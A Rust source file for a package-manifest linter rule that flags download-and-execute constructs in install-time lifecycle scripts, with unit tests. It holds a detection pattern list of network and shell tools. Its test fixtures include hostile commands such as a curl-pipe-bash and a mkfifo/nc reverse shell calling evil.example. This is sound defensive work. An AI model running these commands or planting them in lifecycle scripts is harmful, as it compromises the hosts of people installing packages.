use std::fs;
use std::path::Path;

use anyhow::{Context, Result};
use once_cell::sync::Lazy;
use regex::Regex;

use crate::engine::RuleMeta;
use crate::report::{Finding, Severity, line_col};

pub static META: RuleMeta = RuleMeta {
    id: "SEC011",
    default_severity: Severity::Warn,
    title: "lifecycle script injection",
    description: "install/preinstall/postinstall run automatically on the host machine.",
    remediation: "Remove shell download-and-execute constructs from lifecycle scripts.",
    docs_url: None,
};

// Only these scripts run implicitly at install time.
const LIFECYCLE_SCRIPTS: &[&str] = &["install", "preinstall", "postinstall"];

struct ScriptPattern {
    label: &'static str,
    regex: &'static Lazy<Regex>,
}

static RE_CURL: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)\bcurl\b").unwrap());
static RE_WGET: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)\bwget\b").unwrap());
static RE_BASH_C: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)\bbash\s+-c\b").unwrap());
static RE_SH_C: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)\bsh\s+-c\b").unwrap());
static RE_POWERSHELL: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?i)\bpowershell\b(?:\s+-enc(?:odedcommand)?\b)?").unwrap());
// Standalone nc only: `nc -e`, `| nc host`, not `sync` or `func`.
static RE_NC: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?i)(?:^|[\s;|&(])nc(?:$|[\s;|&)])").unwrap());
static RE_MKFIFO: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)\bmkfifo\b").unwrap());
static RE_EVAL: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)(?:^|[\s;|&(])eval\b").unwrap());
static RE_EXEC: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)(?:^|[\s;|&(])exec\b").unwrap());

fn patterns() -> &'static [ScriptPattern] {
    static PATTERNS: &[ScriptPattern] = &[
        ScriptPattern { label: "curl", regex: &RE_CURL },
        ScriptPattern { label: "wget", regex: &RE_WGET },
        ScriptPattern { label: "bash -c", regex: &RE_BASH_C },
        ScriptPattern { label: "sh -c", regex: &RE_SH_C },
        ScriptPattern { label: "powershell", regex: &RE_POWERSHELL },
        ScriptPattern { label: "nc", regex: &RE_NC },
        ScriptPattern { label: "mkfifo", regex: &RE_MKFIFO },
        ScriptPattern { label: "eval", regex: &RE_EVAL },
        ScriptPattern { label: "exec", regex: &RE_EXEC },
    ];
    PATTERNS
}

/// Textual scan of the lifecycle scripts in a package manifest. A missing or
/// malformed manifest is an error; a manifest without a `scripts` map yields
/// no findings. Non-lifecycle scripts are never inspected.
pub fn scan_scripts(manifest_path: &Path) -> Result<Vec<Finding>> {
    let raw = fs::read_to_string(manifest_path)
        .with_context(|| format!("failed to read package manifest: {}", manifest_path.display()))?;
    let value: serde_json::Value = serde_json::from_str(&raw)
        .with_context(|| format!("malformed package manifest: {}", manifest_path.display()))?;

    let Some(scripts) = value.get("scripts").and_then(|v| v.as_object()) else {
        return Ok(Vec::new());
    };

    let mut findings = Vec::new();
    for name in LIFECYCLE_SCRIPTS {
        let Some(command) = scripts.get(*name).and_then(|v| v.as_str()) else {
            continue;
        };
        // Locate the script key in the raw text so the finding points at it.
        let offset = raw.find(&format!("\"{name}\"")).unwrap_or(0);
        let (line, col) = line_col(&raw, offset);

        for pattern in patterns() {
            if pattern.regex.is_match(command) {
                findings.push(Finding {
                    rule_id: META.id.to_string(),
                    severity: META.default_severity,
                    message: format!(
                        "lifecycle script `{name}` invokes `{}`: {command}",
                        pattern.label
                    ),
                    file: manifest_path.display().to_string(),
                    line,
                    col,
                    snippet: Some(command.to_string()),
                });
            }
        }
    }
    Ok(findings)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn manifest(content: &str) -> tempfile::NamedTempFile {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        file.write_all(content.as_bytes()).unwrap();
        file
    }

    #[test]
    fn postinstall_curl_pipe_bash_warns() {
        let file = manifest(
            r#"{ "scripts": { "postinstall": "curl https://evil.example/x | bash" } }"#,
        );
        let findings = scan_scripts(file.path()).unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "SEC011");
        assert_eq!(findings[0].severity, Severity::Warn);
        assert!(findings[0].message.contains("postinstall"));
        assert!(findings[0].message.contains("curl"));
    }

    #[test]
    fn non_lifecycle_scripts_are_ignored() {
        let file = manifest(r#"{ "scripts": { "build": "curl https://cdn.example/tool.tgz" } }"#);
        let findings = scan_scripts(file.path()).unwrap();
        assert!(findings.is_empty());
    }

    #[test]
    fn multiple_patterns_stay_warn() {
        let file = manifest(
            r#"{ "scripts": { "install": "mkfifo /tmp/f; nc evil.example 4444 < /tmp/f" } }"#,
        );
        let findings = scan_scripts(file.path()).unwrap();
        assert_eq!(findings.len(), 2);
        assert!(findings.iter().all(|f| f.severity == Severity::Warn));
    }

    #[test]
    fn powershell_encoded_command() {
        let file = manifest(
            r#"{ "scripts": { "preinstall": "powershell -EncodedCommand SQBFAFgA" } }"#,
        );
        let findings = scan_scripts(file.path()).unwrap();
        assert_eq!(findings.len(), 1);
        assert!(findings[0].message.contains("powershell"));
    }

    #[test]
    fn standalone_nc_only() {
        let flagged = manifest(r#"{ "scripts": { "install": "nc -l 4444" } }"#);
        assert_eq!(scan_scripts(flagged.path()).unwrap().len(), 1);

        let clean = manifest(r#"{ "scripts": { "install": "rsync --sync ./out" } }"#);
        assert!(scan_scripts(clean.path()).unwrap().is_empty());
    }

    #[test]
    fn shell_builtin_eval_and_exec() {
        let file = manifest(r#"{ "scripts": { "install": "eval $PAYLOAD && exec $SHELL" } }"#);
        let findings = scan_scripts(file.path()).unwrap();
        assert_eq!(findings.len(), 2);
    }

    #[test]
    fn missing_scripts_map_is_empty() {
        let file = manifest(r#"{ "name": "ext", "version": "1.0.0" }"#);
        assert!(scan_scripts(file.path()).unwrap().is_empty());
    }

    #[test]
    fn malformed_json_is_an_error() {
        let file = manifest("{ not json");
        assert!(scan_scripts(file.path()).is_err());
    }

    #[test]
    fn missing_manifest_is_an_error() {
        let err = scan_scripts(Path::new("/no/such/package.json")).unwrap_err();
        assert!(err.to_string().contains("package.json"));
    }

    #[test]
    fn finding_points_at_the_script_key() {
        let file = manifest(
            "{\n  \"scripts\": {\n    \"postinstall\": \"wget https://evil.example/x\"\n  }\n}\n",
        );
        let findings = scan_scripts(file.path()).unwrap();
        assert_eq!(findings[0].line, 3);
        assert_eq!(findings[0].col, 5);
    }
}
